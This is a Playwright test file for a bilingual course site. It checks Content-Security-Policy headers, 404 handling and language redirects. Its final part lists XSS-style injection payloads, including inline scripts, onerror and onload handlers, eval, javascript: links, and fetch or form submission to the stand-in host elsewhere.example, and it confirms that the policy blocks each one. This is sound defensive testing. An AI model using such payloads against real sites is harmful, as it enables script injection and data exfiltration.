import type { Page } from '@playwright/test';
import { drawn } from './support/long';
import { expect, lessonPath, test } from './support/test';

/** What a page says of itself and where it leads, read without drawing it. */
const read = (page: Page, path: string) =>
  page.evaluate(async (address) => {
    const response = await fetch(address);
    const html = new DOMParser().parseFromString(await response.text(), 'text/html');
    const hrefs = [...html.querySelectorAll('a[href]')].map((link) => link.getAttribute('href') ?? '');
    return {
      policy: html.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      links: hrefs.map((href) => new URL(href, response.url).href),
    };
  }, path);

test('every page that links lead to answers, under a policy without unsafe scripts', async ({ page, baseURL }) => {
  const waiting = ['en/', 'ru/'];
  const seen = new Set<string>();
  // Beside the course, with no policy of its own.
  await page.goto('icon.svg');
  for (let path = waiting.pop(); path !== undefined; path = waiting.pop()) {
    if (seen.has(path)) continue;
    seen.add(path);
    const { policy, links } = await read(page, path);
    expect(policy, path).toMatch(/default-src 'none'; script-src 'self' 'sha256-/);
    expect(policy, path).not.toContain('unsafe');
    for (const link of links) {
      if (link.startsWith(baseURL ?? ''))
        waiting.push(new URL(link).pathname.slice(new URL(baseURL ?? '').pathname.length));
    }
  }
  expect([...seen]).toEqual(expect.arrayContaining(['en/', `en/${lessonPath}`, 'ru/', `ru/${lessonPath}`]));
  // Drawn, without an error.
  for (const path of drawn([...seen])) await page.goto(path);
});

test('an address with nothing behind it says so in both languages and leads back', async ({ page, wrong }) => {
  const response = await page.goto('nowhere/');
  expect(response?.status()).toBe(404);
  await expect(page.getByRole('heading', { name: 'Nothing at this address' })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'По этому адресу ничего нет' })).toBeVisible();
  expect(wrong.filter((line) => !line.includes('404'))).toEqual([]);
  wrong.length = 0;
  await page.getByRole('link', { name: 'К курсу' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Отказоустойчивая балансировка');
});

test.describe('a reader whose browser asks for Russian', () => {
  test.use({ locale: 'ru-RU' });

  test('is led there from the first page, and keeps the language chosen instead', async ({ page }) => {
    await page.goto('./');
    await page.waitForURL('**/ru/');
    await expect(page.locator('html')).toHaveAttribute('data-keys', 'ready');
    await page.getByRole('link', { name: 'English' }).click();
    await page.waitForURL('**/en/');
    await page.goto('./');
    await page.waitForURL('**/en/');
  });
});

/** What an intruder would try, in a page's own words; each would leave `window.intruder` behind, or lead elsewhere. */
const intrusions: Readonly<Record<string, string>> = {
  'a script written into the page': `const script = document.createElement('script');
    script.append('window.intruder = 1'); document.body.append(script)`,
  'a script of another host': `const script = document.createElement('script');
    script.setAttribute('src', 'https://elsewhere.example/x.js'); document.body.append(script)`,
  'a script in data': `const script = document.createElement('script');
    script.setAttribute('src', 'data:text/javascript,window.intruder=1'); document.body.append(script)`,
  'markup from text': `document.body.innerHTML = '<img src=x onerror="window.intruder = 1">'`,
  'more markup from text': `document.body.insertAdjacentHTML('beforeend', '<svg onload="window.intruder = 1">')`,
  'a document from text': `document.body.append(document.createRange().createContextualFragment('<script>window.intruder = 1</script>'))`,
  'a handler in an attribute': `const button = document.createElement('button');
    button.setAttribute('onclick', 'window.intruder = 1'); document.body.append(button); button.click()`,
  eval: `(0, eval)('window.intruder = 1')`,
  'a function from text': `new Function('window.intruder = 1')()`,
  'a timer from text': `setTimeout('window.intruder = 1', 0)`,
  'a javascript: link': `const link = document.createElement('a');
    link.href = 'javascript:window.intruder = 1'; document.body.append(link); link.click()`,
  'a foreign frame': `const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/'; document.body.append(frame)`,
  'another base': `const base = document.createElement('base');
    base.href = 'https://elsewhere.example/'; document.head.append(base);
    if (document.baseURI.includes('elsewhere')) window.intruder = 1`,
  'a form that leads away': `const form = document.createElement('form');
    form.action = 'https://elsewhere.example/'; document.body.append(form); form.submit()`,
  'a worker of another script': `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.intruder = 1 }`,
  'a style in an attribute': `document.body.setAttribute('style', 'opacity: 0.5');
    if (getComputedStyle(document.body).opacity === '0.5') window.intruder = 1`,
  'words sent away': `fetch('https://elsewhere.example/').then(() => { window.intruder = 1 }, () => {})`,
  'another maker of trusted texts': `trustedTypes.createPolicy('intruder', { createHTML: (text) => text }); window.intruder = 1`,
};

test('the policy of a page stops whatever an intruder in it would try', async ({ page, wrong }) => {
  await page.goto('en/');
  const home = page.url();
  for (const [what, code] of Object.entries(intrusions)) {
    await test.step(what, async () => {
      // By itself: what a test evaluates at once, the browser takes for the developer's own.
      await page.evaluate(`void setTimeout(() => { ${code} }, 0)`);
      await page.waitForTimeout(100);
      expect(await page.evaluate(() => 'intruder' in window), what).toBe(false);
      expect(page.url(), what).toBe(home);
    });
  }
  expect(wrong.length).toBeGreaterThanOrEqual(Object.keys(intrusions).length - 2);
  expect(wrong.filter((line) => line.includes('request outside'))).toEqual([]);
  wrong.length = 0;
});
